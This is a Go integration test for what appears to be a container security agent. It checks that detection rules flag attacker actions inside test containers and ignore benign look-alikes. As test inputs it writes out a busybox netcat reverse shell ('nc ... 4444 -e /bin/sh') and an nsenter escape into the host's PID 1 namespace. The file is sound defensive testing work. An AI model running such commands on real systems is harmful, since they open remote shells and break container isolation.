package docker_test

import (
	"context"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/castellan-security/castellan/internal/agent"
	"github.com/castellan-security/castellan/internal/agent/hunt"
	"github.com/castellan-security/castellan/internal/asset"
	"github.com/castellan-security/castellan/internal/finding"
	"github.com/castellan-security/castellan/internal/link"
	"github.com/castellan-security/castellan/internal/threat"
	"github.com/castellan-security/castellan/test/docker/engine"
)

// recorder is an inbox that takes threats.
type recorder struct {
	*inbox
	threats []link.NumberedThreat // of which mu is the inbox's
}

// Report is link.Server.
func (r *recorder) Report(ctx context.Context, rep link.Report) (link.Receipt, error) {
	r.mu.Lock()
	r.threats = append(r.threats, rep.Threats...)
	r.mu.Unlock()
	receipt, err := r.inbox.Report(ctx, rep)
	if n := len(rep.Threats); n > 0 && err == nil {
		receipt.ThreatsTaken = rep.Threats[n-1].Number
	}
	return receipt, err
}

// huntedHost runs an agent that holds what happens against rules of detection.
func huntedHost(t *testing.T, e *engine.Engine) *recorder {
	t.Helper()
	r := &recorder{}
	r.inbox = &inbox{changed: make(chan struct{}), workloads: map[string]asset.Workload{}, further: func(p *agent.Parts) {
		h, err := hunt.Open(hunt.Options{AgentID: "agent", Dir: t.TempDir(), Log: slog.New(slog.NewTextHandler(t.Output(), nil))})
		if err != nil {
			t.Fatal(err)
		}
		p.Hunter, p.Server = h, r
	}}
	return r
}

// Deeds of attackers become threats within a second, and what looks like them does not.
func TestDeedsBecomeThreats(t *testing.T) {
	e := start(t, engine.Options{Bridge: true})
	r := huntedHost(t, e)
	r.guard(t, e)
	evil := run(t, e, engine.Container{Name: "evil", Cmd: []string{"/bin/busybox", "nc", "-ll", "-p", "4444", "-e", "/bin/cat"}})
	at := address(t, e, evil)
	web := run(t, e, engine.Container{Name: "web", Labels: labels("web")})
	node := run(t, e, engine.Container{Name: "node", Labels: labels("node")})
	plain := run(t, e, engine.Container{Name: "plain", Labels: labels("plain")})
	for _, tc := range []struct {
		name, in, deed, rule string
		alike                []string // the same container kind, and nothing hostile
	}{
		{"reverse shell", web, "/bin/busybox nc " + at + " 4444 -e /bin/sh & sleep 5; kill $!", "shell-reverse",
			[]string{"echo hello | /bin/busybox nc -w 1 " + at + " 4444", "echo id | sh", "sh -c 'id; true'"}},
		{"nsenter", node, "/bin/busybox nsenter -t 1 -m /bin/busybox true; true", "escape-nsenter",
			[]string{"sleep 5 & /bin/busybox nsenter -t $! -n true", "/bin/busybox nsenter --help"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, command := range tc.alike {
				e.Exec(t.Context(), plain, "sh", "-c", command) //nolint:errcheck // some end with a code, and that is all the same
			}
			began := time.Now()
			if _, _, err := e.Exec(t.Context(), tc.in, "sh", "-c", tc.deed); err != nil {
				t.Fatal(err)
			}
			var got *threat.Threat
			r.wait(t, "a threat of "+tc.rule, func() bool {
				i := slices.IndexFunc(r.threats, func(x link.NumberedThreat) bool { return x.WorkloadID == tc.in && x.Rule == tc.rule })
				if i >= 0 {
					got = &r.threats[i].Threat
				}
				return i >= 0
			})
			t.Logf("%s: told %v after the deed began: %s", tc.name, time.Since(began).Round(time.Millisecond), got.Summary)
			if got.Group == "" || !strings.Contains(got.Group, "shop/") || len(got.Evidence) == 0 {
				t.Errorf("it is of group %q and rests on %d events", got.Group, len(got.Evidence))
			}
		})
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := range r.threats {
		if x := &r.threats[i]; x.WorkloadID == plain && x.Severity >= finding.Medium {
			t.Errorf("what only looks alike became a threat: %s %s: %s", x.Severity, x.Rule, x.Summary)
		}
	}
	if d := r.agent.Detection; d == nil || d.Missed > 0 || d.Dropped > 0 {
		t.Errorf("the agent says of detection: %+v", d)
	}
}
